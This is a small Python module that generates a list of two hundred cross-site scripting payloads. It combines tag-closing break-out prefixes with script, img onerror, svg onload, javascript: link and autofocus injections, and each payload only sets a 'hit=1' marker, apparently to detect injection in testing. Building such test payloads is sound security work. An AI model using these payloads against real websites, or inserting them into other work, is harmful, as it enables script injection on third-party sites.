"""Two hundred texts that would run where a page takes text for markup. Each fits into a name."""

from __future__ import annotations

from itertools import product

_RUN = ["hit=1", "window.hit=1", "self['hit']=1", "parent.hit=1"]
_BREAK_OUT = ["", '">', "'>", "</title>", "</textarea>", "</option></select>", "</script>", "-->", "`>", "}}{{"]
_MARKUP = [
    "<script>{run}</script>",
    "<img src=x onerror={run}>",
    "<svg onload={run}>",
    '<a href="javascript:{run}">x</a>',
    '" onfocus={run} autofocus x="',
]
PAYLOADS = [before + text.format(run=run) for before, text, run in product(_BREAK_OUT, _MARKUP, _RUN)]
